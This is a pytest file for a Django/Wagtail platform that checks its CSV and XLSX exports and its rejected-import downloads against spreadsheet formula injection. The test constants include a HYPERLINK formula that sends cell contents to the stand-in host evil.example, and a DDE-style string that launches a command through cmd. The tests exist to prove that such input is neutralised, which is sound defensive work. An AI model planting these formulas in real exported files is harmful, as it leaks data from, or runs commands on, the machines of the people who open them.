"""No file the project writes runs a formula when opened in a spreadsheet: text starting with
=, +, -, @, a tab or a carriage return gets a leading apostrophe, in CSV and XLSX, in the
reports, wagtail's own listings and the imports' rejected rows, and a rejected-rows file
still imports its original values once fixed."""

import csv
import datetime
import io
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from siso_platform.accounts.models import Organisation
from siso_platform.casework.models import CatalogueItem
from siso_platform.imports import rejected
from siso_platform.imports.formats import FORMATS
from siso_platform.people.models import Person
from siso_platform.spreadsheet_cells import neutralised, restored
from siso_platform.territory.models import Municipality, SocialZone
from tests.imports.conftest import PERUGIA, person_row, run_import

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Dettagli")'
PLUS = "+1+1"
AT = "@SUM(1+1)*cmd|' /C calc'!A0"


# --- the function ---------------------------------------------------------------------------


@pytest.mark.parametrize("text", [HYPERLINK, PLUS, AT, "-2+3", "\t=1+1", "\r=1+1", "=", "-", "@"])
def test_text_that_would_run_gets_an_apostrophe_and_reads_back(text):
    assert neutralised(text) == "'" + text
    assert restored(neutralised(text)) == text


@pytest.mark.parametrize(
    "value",
    [
        None,
        -3,
        -2.5,
        Decimal("-10.00"),
        0,
        True,
        datetime.date(2025, 1, 1),
        datetime.datetime(2025, 1, 1, 8, 30),
        "",
        "Via Roma 3",
        "D'Angelo",
        " =1",  # a leading space is not run
    ],
)
def test_numbers_dates_and_plain_text_stay_as_they_are(value):
    assert neutralised(value) is value or neutralised(value) == value


@pytest.mark.parametrize("text", ["'abc", "'", "''=1", "'Via Roma", "D'Angelo"])
def test_only_the_apostrophe_it_adds_is_removed(text):
    assert restored(text) == text


def test_a_lazy_translation_is_text():
    from django.utils.translation import gettext_lazy

    assert neutralised(gettext_lazy("=x")) == "'=x"


# --- the reports ----------------------------------------------------------------------------

API = "/api/v1/reporting/interventions-export/"
AGGREGATES = "/api/v1/reporting/aggregates/"
ADMIN = "/admin/reporting/interventions/"


def cells(response, fmt: str) -> list[list]:
    assert response.status_code == 200
    body = b"".join(response.streaming_content)
    if fmt == "csv":
        return list(csv.reader(io.StringIO(body.decode("utf-8"))))
    sheet = load_workbook(io.BytesIO(body)).worksheets[0]
    for row in sheet.iter_rows():
        for cell in row:
            assert cell.data_type != "f", cell.value
    return [list(row) for row in sheet.iter_rows(values_only=True)]


@pytest.fixture
def hostile_names(population):
    """The provider of every intervention, the benefit and a zone named with formulas."""
    Organisation.objects.filter(
        municipality__in=[p.residence_municipality for p in population[2] + population[3]]
    ).update(name=HYPERLINK)
    CatalogueItem.objects.filter(code="E1.01").update(name=PLUS)
    SocialZone.objects.filter(number=2).update(name=AT)


@pytest.mark.django_db
@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
@pytest.mark.parametrize("who", ["region_admin", "zone_admin"])
def test_the_flat_export_writes_formulas_as_text(client, request, hostile_names, fmt, who):
    client.force_login(request.getfixturevalue(who))
    for response in (client.get(API, {"format": fmt}), client.post(ADMIN, {"format": fmt})):
        rows = cells(response, fmt)
        header = rows[0]
        data = [dict(zip(header, row, strict=False)) for row in rows[1:] if len(row) == len(header)]
        assert data
        for row in data:
            assert row["provider_name"] == "'" + HYPERLINK
            assert row["benefit_name"] == "'" + PLUS
            if fmt == "xlsx":
                assert isinstance(row["amount"], (int, float))  # numbers stay numbers


@pytest.mark.django_db
@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_the_aggregates_write_formulas_as_text(client, region_admin, hostile_names, fmt):
    client.force_login(region_admin)
    api = client.get(AGGREGATES, {"measure": "interventions", "by": "zone", "format": fmt})
    admin = client.get(
        "/admin/reporting/",
        {"measure": "interventions", "by": "zone", "download": fmt, "date_from": "2025-01-01"},
    )
    for response in (api, admin):
        labels = {row[0]: row[1] for row in cells(response, fmt)[1:] if row[0] in (2, "2")}
        assert list(labels.values()) == ["'" + AT]


@pytest.mark.django_db
@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_wagtails_own_listing_exports_write_formulas_as_text(client, django_user_model, fmt):
    CatalogueItem.objects.filter(code="E1.01").update(name=HYPERLINK, description=AT)
    root = django_user_model.objects.create_superuser("root", "root@example.org", "x")
    client.force_login(root)

    response = client.get("/admin/catalogue_items/", {"export": fmt})

    assert response.status_code == 200
    body = b"".join(response.streaming_content)
    if fmt == "csv":
        rows = list(csv.reader(io.StringIO(body.decode("utf-8"))))
    else:
        sheet = load_workbook(io.BytesIO(body)).worksheets[0]
        rows = [list(row) for row in sheet.iter_rows(values_only=True)]
    found = [row for row in rows if "'" + HYPERLINK in row]
    assert len(found) == 1 and "'" + AT in found[0]
    assert not any(HYPERLINK in row or AT in row for row in rows)


# --- the imports' rejected rows -------------------------------------------------------------


def registry_file(rows: list[dict]) -> str:
    out = io.StringIO()
    writer = csv.DictWriter(out, fieldnames=FORMATS["registry"].names)
    writer.writeheader()
    writer.writerows(rows)
    return out.getvalue()


@pytest.mark.django_db
def test_a_rejected_row_downloads_neutralised_and_imports_again_as_it_was(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path / "media"
    perugia = Municipality.objects.get(istat_code=PERUGIA)
    row = person_row("Rossi", "Mario", "M", datetime.date(1980, 1, 1), "F1", "head")
    row.update(last_name=HYPERLINK, first_name=PLUS, address=AT, registered_on="31/02/2015")
    run = run_import("registry", registry_file([row]), perugia)
    assert (run.rows_inserted, run.rows_rejected) == (0, 1)

    download = b"".join(rejected.encoded(run)).decode()
    table = list(csv.DictReader(io.StringIO(download)))
    assert (table[0]["last_name"], table[0]["first_name"], table[0]["address"]) == (
        "'" + HYPERLINK,
        "'" + PLUS,
        "'" + AT,
    )
    assert "\n=" not in download and ",=" not in download and ",+" not in download

    # The steward fixes the date in the downloaded file and imports it as it is.
    table[0]["registered_on"] = "2015-03-02"
    fixed = io.StringIO()
    writer = csv.DictWriter(fixed, fieldnames=list(table[0]))
    writer.writeheader()
    writer.writerows(table)
    again = run_import("registry", fixed.getvalue(), perugia)

    assert (again.rows_inserted, again.rows_rejected) == (1, 0)
    person = Person.objects.get(tax_code=row["tax_code"])
    assert (person.last_name, person.first_name) == (HYPERLINK, PLUS)
